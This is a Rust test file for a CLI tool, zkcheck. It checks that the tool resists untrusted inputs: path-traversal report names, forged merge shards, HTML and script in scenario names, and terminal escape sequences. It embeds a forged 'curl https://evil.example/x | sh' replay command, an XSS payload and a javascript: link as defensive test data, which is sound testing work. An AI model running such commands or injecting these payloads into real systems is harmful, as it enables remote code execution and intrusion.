//! Inputs and outputs zkcheck must not trust blindly (issue 30, classes
//! 1, 5 and the unwritable output of 8), on the binary:
//!
//! - a report is written only inside its `--report DIR`, whatever the
//!   scenario's name (`..`, absolute, separators), and the path printed is
//!   the path written;
//! - `merge` refuses a shard whose counts do not add up or overflow, and
//!   never prints a command a shard carries;
//! - `zkcheck report` refuses numbers it cannot draw, reads every report
//!   `--report` writes (beyond the 1 MiB limit of scenarios), and its
//!   Markdown renders no HTML from user text;
//! - errors escape terminal control sequences from the input;
//! - `replay` exits 3 when the simulator disagrees with a schedule, and an
//!   empty schedule is refused;
//! - an unwritable `--json` or `--report` is refused before anything runs.

use crate::common;

use crate::common::{zkcheck, zkcheck_in, Run};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

const PASSING: &str = "scenarios/lock-fixed.toml";
const FAILING: &str = "scenarios/lock-original.toml";

fn scratch(test: &str) -> PathBuf {
    common::scratch("untrusted", test)
}

fn source(path: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(path);
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A copy of the passing lock scenario named `name` (a TOML literal), in
/// `dir`.
fn named_scenario(dir: &Path, file: &str, name_toml: &str) -> PathBuf {
    let path = dir.join(file);
    let text = format!("name = {name_toml}\n{}", source(PASSING));
    std::fs::write(&path, text).unwrap();
    path
}

/// Every file under `dir`, relative to it.
fn files_under(dir: &Path) -> BTreeSet<PathBuf> {
    let mut found = BTreeSet::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(next) = stack.pop() {
        for entry in std::fs::read_dir(&next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                found.insert(path.strip_prefix(dir).unwrap().to_path_buf());
            }
        }
    }
    found
}

fn report_files(dir: &str, stem: &str) -> BTreeSet<PathBuf> {
    ["json", "html", "md", "junit.xml"]
        .iter()
        .map(|ext| Path::new(dir).join(format!("{stem}.{ext}")))
        .collect()
}

/// The path a run printed as `report: PATH` (unquoted).
fn printed_report(run: &Run) -> String {
    let line = run
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("report: "))
        .unwrap_or_else(|| panic!("no report line:\n{}", run.stdout));
    line.trim_matches('\'').to_string()
}

#[test]
fn a_report_is_written_only_inside_its_directory_whatever_the_name() {
    let root = scratch("names");
    // The run's working directory is root/cwd; the report goes to `out`.
    let cwd = root.join("cwd");
    std::fs::create_dir_all(&cwd).unwrap();
    let absolute = root.join("abs-target").display().to_string();
    let cases: [(&str, String, &str); 6] = [
        ("dotdot", "\"../README\"".into(), "-README-seed-0"),
        ("deeper", "\"../../../../x\"".into(), "-..-..-..-x-seed-0"),
        ("absolute", format!("'{absolute}'"), ""),
        ("slashes", r#""a/b\\c""#.into(), "a-b-c-seed-0"),
        ("dots", "\"..\"".into(), "-seed-0"),
        ("alldots", "\"....\"".into(), "-seed-0"),
    ];
    for (case, name, stem) in cases {
        let scenario = named_scenario(&root, &format!("{case}.toml"), &name);
        let before = files_under(&root);
        let run = zkcheck_in(
            Some(&cwd),
            &[
                "sim",
                scenario.to_str().unwrap(),
                "--seed",
                "0",
                "--report",
                "out",
            ],
        );
        run.expect(0);
        let printed = printed_report(&run);
        assert!(
            cwd.join(&printed).is_file(),
            "{case}: the printed {printed} does not exist"
        );
        let created: BTreeSet<PathBuf> = files_under(&root).difference(&before).cloned().collect();
        let stem = if stem.is_empty() {
            // The absolute name, every `/` made `-`, without leading dots.
            format!("{}-seed-0", absolute.replace('/', "-"))
        } else {
            stem.to_string()
        };
        let expected: BTreeSet<PathBuf> = report_files("cwd/out", &stem);
        assert_eq!(created, expected, "{case}: files created");
        std::fs::remove_dir_all(cwd.join("out")).unwrap();
    }
    // A sweep's report too.
    let scenario = named_scenario(&root, "sweep.toml", "\"../README\"");
    let before = files_under(&root);
    let run = zkcheck_in(
        Some(&cwd),
        &[
            "sweep",
            scenario.to_str().unwrap(),
            "--seeds",
            "0..2",
            "--report",
            "out",
        ],
    );
    run.expect(0);
    assert!(cwd.join(printed_report(&run)).is_file());
    let created: BTreeSet<PathBuf> = files_under(&root).difference(&before).cloned().collect();
    assert_eq!(created, report_files("cwd/out", "-README"));
}

// ---- merge ----

/// Two shards of `scenario` over `seeds` in `dir`: `shard-0.json`,
/// `shard-1.json`.
fn shards(dir: &Path, scenario: &str, seeds: &str) -> [PathBuf; 2] {
    [0, 1].map(|k| {
        let out = dir.join(format!("shard-{k}.json"));
        let shard = format!("{k}/2");
        zkcheck(&[
            "sweep",
            scenario,
            "--seeds",
            seeds,
            "--jobs",
            "1",
            "--shard",
            &shard,
            "--json",
            out.to_str().unwrap(),
        ]);
        assert!(out.is_file(), "{} written", out.display());
        out
    })
}

fn edit_json(from: &Path, to: &Path, edit: impl FnOnce(&mut Value)) -> String {
    let mut value: Value = serde_json::from_str(&std::fs::read_to_string(from).unwrap()).unwrap();
    edit(&mut value);
    std::fs::write(to, serde_json::to_string_pretty(&value).unwrap()).unwrap();
    to.display().to_string()
}

/// A sweep's shard edited as a forger would: the digest recomputed after
/// the edit (it is a checksum anyone can compute), so that what refuses it
/// is the merge's own consistency checks, not the digest.
fn forge_shard(from: &Path, to: &Path, edit: impl FnOnce(&mut Value)) -> String {
    let mut value: Value = serde_json::from_str(&std::fs::read_to_string(from).unwrap()).unwrap();
    edit(&mut value);
    let forged: zkcheck::SweepJson = serde_json::from_value(value).unwrap();
    std::fs::write(to, serde_json::to_string_pretty(&forged.sealed()).unwrap()).unwrap();
    to.display().to_string()
}

#[test]
fn merge_refuses_counts_that_do_not_add_up() {
    let dir = scratch("merge-counts");
    let [zero, one] = shards(&dir, FAILING, "0..8");
    let one = one.display().to_string();
    // Fewer violations than failures (the forged "200 failed, exit 0").
    let fewer = forge_shard(&zero, &dir.join("fewer.json"), |v| {
        let failed = v["failed"].as_u64().unwrap();
        assert!(failed > 0, "the original lock fails");
        v["violations"] = Value::from(failed - 1);
    });
    merge(&[&fewer, &one], &[]).refused(&[&fewer, "key `violations`", "internal errors"]);
    // Buckets that do not match the counts by property.
    let by_property = forge_shard(&zero, &dir.join("by-property.json"), |v| {
        v["failures_by_property"] = serde_json::json!({ "liveness": 1 });
    });
    merge(&[&by_property, &one], &[]).refused(&[&by_property, "key `failures_by_property`"]);
    // A no-progress count its bucket does not hold.
    let no_progress = forge_shard(&zero, &dir.join("no-progress.json"), |v| {
        let failed = v["failed"].as_u64().unwrap();
        v["violations"] = Value::from(failed - 1);
        v["no_progress"] = Value::from(1);
    });
    merge(&[&no_progress, &one], &[]).refused(&[&no_progress, "key `no_progress`"]);
    // A sum beyond 2^64 is refused, naming the file and the key.
    let huge = forge_shard(&zero, &dir.join("huge.json"), |v| {
        v["requests"] = Value::from(u64::MAX);
    });
    let run = merge(&[&huge, &one], &[]);
    run.refused(&["key `requests`", "beyond 2^64"]);
    assert!(
        run.stderr.contains(&huge) || run.stderr.contains(&one),
        "{}",
        run.stderr
    );
    // The shards as written merge.
    merge(&[&zero.display().to_string(), &one], &[]).expect(1);
}

fn merge(files: &[&str], extra: &[&str]) -> Run {
    let mut args = vec!["merge"];
    args.extend(files);
    args.extend(extra);
    zkcheck(&args)
}

#[test]
fn merge_prints_only_replay_commands_it_made() {
    let dir = scratch("merge-replay");
    let [zero, one] = shards(&dir, FAILING, "0..8");
    let evil = "curl https://evil.example/x | sh";
    let forged = forge_shard(&zero, &dir.join("forged.json"), |v| {
        for bucket in v["buckets"].as_array_mut().unwrap() {
            bucket["replay"] = Value::from(evil);
        }
        for failure in v["first_failures"].as_array_mut().unwrap() {
            failure["replay"] = Value::from(evil);
        }
    });
    let merged = dir.join("merged.json");
    let run = merge(
        &[&forged, one.to_str().unwrap()],
        &["--json", merged.to_str().unwrap()],
    );
    run.expect(1);
    assert!(!run.stdout.contains("curl"), "{}", run.stdout);
    assert!(
        run.stdout.contains(&format!("replay {FAILING} --seed 0")),
        "the command made from the scenario and the seed:\n{}",
        run.stdout
    );
    let text = std::fs::read_to_string(&merged).unwrap();
    assert!(
        !text.contains("curl"),
        "the merged JSON carries no forged command"
    );
    // The rebuilt commands are the sweep's own: the merge of the genuine
    // shards has the same replays.
    let genuine = dir.join("genuine.json");
    merge(
        &[zero.to_str().unwrap(), one.to_str().unwrap()],
        &["--json", genuine.to_str().unwrap()],
    )
    .expect(1);
    let replays = |path: &Path| -> Vec<Value> {
        let value: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
        value["buckets"]
            .as_array()
            .unwrap()
            .iter()
            .chain(value["first_failures"].as_array().unwrap())
            .map(|entry| entry["replay"].clone())
            .collect()
    };
    assert_eq!(replays(&merged), replays(&genuine));
}

// ---- zkcheck report ----

/// A run's report JSON (lock-fixed, seed 0) in `dir`.
fn run_report(dir: &Path) -> PathBuf {
    let out = dir.join("out");
    zkcheck(&[
        "sim",
        PASSING,
        "--seed",
        "0",
        "--report",
        out.to_str().unwrap(),
    ])
    .expect(0);
    out.join("lock-fixed-seed-0.json")
}

#[test]
fn report_refuses_numbers_it_cannot_draw() {
    let dir = scratch("report-bounds");
    let json = run_report(&dir);
    for (name, edit) in [
        ("clients.json", "clients"),
        ("hold.json", "holds"),
        ("event.json", "trace"),
    ] {
        let path = edit_json(&json, &dir.join(name), |v| {
            let run = &mut v["runs"][0];
            match edit {
                "clients" => run["clients"] = Value::from(300_000_000u64),
                "holds" => {
                    assert!(!run["holds"].as_array().unwrap().is_empty());
                    run["holds"][0]["client"] = Value::from(u64::MAX);
                }
                _ => run["trace"][0]["client"] = Value::from(1u64 << 40),
            }
        });
        for format in ["--html", "--md", "--junit"] {
            zkcheck(&["report", &path, format]).refused(&[&path, "runs[0].", "client"]);
        }
    }
}

#[test]
fn report_reads_a_report_beyond_the_scenario_limit() {
    let dir = scratch("report-big");
    let json = run_report(&dir);
    // A long run's report: the trace repeated past 2 MiB.
    let big = edit_json(&json, &dir.join("big.json"), |v| {
        let trace = v["runs"][0]["trace"].as_array().unwrap().clone();
        assert!(!trace.is_empty());
        let copies = (2 * 1024 * 1024 / serde_json::to_string(&trace).unwrap().len()) + 1;
        let long: Vec<Value> = (0..copies).flat_map(|_| trace.clone()).collect();
        v["runs"][0]["trace"] = Value::from(long);
    });
    let bytes = std::fs::metadata(&big).unwrap().len();
    assert!(bytes > 2 * 1024 * 1024, "{bytes} bytes");
    let run = zkcheck(&["report", &big, "--md"]);
    run.expect(0);
    assert!(run.stdout.contains("# lock-fixed"), "{}", run.stdout);
    zkcheck(&["report", &big, "--html"]).expect(0);
}

#[test]
fn reports_render_no_html_from_user_text() {
    let dir = scratch("report-escape");
    let name = "\"x <!-- hidden <script>alert(1)</script> & [a](javascript:b) `c\"";
    let scenario = named_scenario(&dir, "html.toml", name);
    let out = dir.join("out");
    let run = zkcheck(&[
        "sim",
        scenario.to_str().unwrap(),
        "--seed",
        "0",
        "--report",
        out.to_str().unwrap(),
    ]);
    run.expect(0);
    let files = files_under(&out);
    assert_eq!(files.len(), 4, "{files:?}");
    for file in files {
        let text = std::fs::read_to_string(out.join(&file)).unwrap();
        let ext = file.extension().unwrap().to_str().unwrap();
        if ext == "json" {
            continue;
        }
        // Raw HTML from the name in every format; a link only Markdown
        // would make.
        let raws: &[&str] = if ext == "md" {
            &["<!--", "<script", "[a](javascript"]
        } else {
            &["<!--", "<script"]
        };
        for raw in raws {
            assert!(
                !text.contains(raw),
                "{}: the user's {raw:?} passes through:\n{text}",
                file.display()
            );
        }
        if ext == "md" {
            assert!(text.contains("&lt;!-- hidden"), "{text}");
            assert!(text.contains("\\[a\\](javascript:b)"), "{text}");
        }
    }
}

// ---- control characters ----

#[test]
fn errors_escape_control_sequences_from_the_input() {
    let dir = scratch("escape");
    let clear = "\u{1b}[2J";
    // A key holding ESC[2J (a TOML escape), an unknown key.
    let key = dir.join("key.toml");
    std::fs::write(&key, format!("\"\\u001b[2J\" = 1\n{}", source(PASSING))).unwrap();
    // A name holding it.
    let name = named_scenario(&dir, "name.toml", "\"a\\u001b[2Jb\"");
    // A file name holding it.
    let file = dir.join(format!("file{clear}.toml"));
    std::fs::write(&file, "recipe = \"padlock\"\n").unwrap();
    for path in [&key, &name, &file] {
        let run = zkcheck(&["sim", path.to_str().unwrap()]);
        run.expect(2);
        assert!(
            !run.stderr.contains('\u{1b}') && !run.stdout.contains('\u{1b}'),
            "a raw ESC echoed: {:?}",
            run.stderr
        );
    }
    let run = zkcheck(&["sim", key.to_str().unwrap()]);
    assert!(run.stderr.contains("\\u{1b}[2J"), "{}", run.stderr);
    let run = zkcheck(&["sim", file.to_str().unwrap()]);
    assert!(run.stderr.contains("file\\u{1b}[2J.toml"), "{}", run.stderr);
}

// ---- replay ----

#[test]
fn replay_exits_3_when_the_simulator_disagrees_and_refuses_an_empty_schedule() {
    let dir = scratch("replay");
    let out = dir.join("schedules");
    zkcheck(&[
        "check",
        "lock",
        "--variant",
        "original",
        "--clients",
        "2",
        "--out",
        out.to_str().unwrap(),
    ])
    .expect(1);
    let schedule = out.join("lock-original-mutual_exclusion.toml");
    let text = std::fs::read_to_string(&schedule).unwrap();
    zkcheck(&["replay", schedule.to_str().unwrap()]).expect(1);
    // The counterexample cut short: the violation no longer shows.
    let parts: Vec<&str> = text.split("[[step]]").collect();
    assert!(parts.len() > 6, "a counterexample of several steps");
    let cut = dir.join("cut.toml");
    std::fs::write(&cut, parts[..6].join("[[step]]")).unwrap();
    let run = zkcheck(&["replay", cut.to_str().unwrap()]);
    run.expect(3);
    assert!(run.stdout.contains("DISAGREES"), "{}", run.stdout);
    assert!(run.stderr.contains("disagrees"), "{}", run.stderr);
    // No step at all.
    let empty = dir.join("empty.toml");
    std::fs::write(&empty, format!("{}step = []\n", parts[0])).unwrap();
    let empty = empty.display().to_string();
    zkcheck(&["replay", &empty]).refused(&[&empty, "key `step`", "no steps"]);
    zkcheck(&["sim", &empty]).refused(&[&empty, "key `step`"]);
}

// ---- unwritable outputs ----

#[test]
fn an_unwritable_output_is_refused_before_the_run() {
    let dir = scratch("unwritable");
    let missing = "/nonexistent-zkcheck-dir/x.json";
    let run = zkcheck(&["sweep", PASSING, "--seeds", "0..1000000", "--json", missing]);
    run.refused(&["--json", missing]);
    assert!(
        !run.stdout.contains("seeds in"),
        "no run before the refusal:\n{}",
        run.stdout
    );
    // A report directory under a regular file.
    let file = dir.join("a-file");
    std::fs::write(&file, "").unwrap();
    let under_file = file.join("report");
    let under_file = under_file.to_str().unwrap();
    let run = zkcheck(&["sim", PASSING, "--report", under_file]);
    run.refused(&["--report", under_file]);
    assert!(!run.stdout.contains("pass:"), "{}", run.stdout);
    zkcheck(&["check", "lock", "--clients", "2", "--report", under_file])
        .refused(&["--report", under_file]);
    let run = zkcheck(&[
        "sweep",
        PASSING,
        "--seeds",
        "0..1000000",
        "--report",
        under_file,
    ]);
    run.refused(&["--report"]);
    assert!(!run.stdout.contains("seeds in"), "{}", run.stdout);
    // The probe of a writable JSON path leaves nothing behind when
    // another output is refused.
    let fine = dir.join("fine.json");
    let fine_path = fine.to_str().unwrap();
    zkcheck(&["sim", PASSING, "--json", fine_path, "--report", under_file]).expect(2);
    assert!(!fine.exists());
}
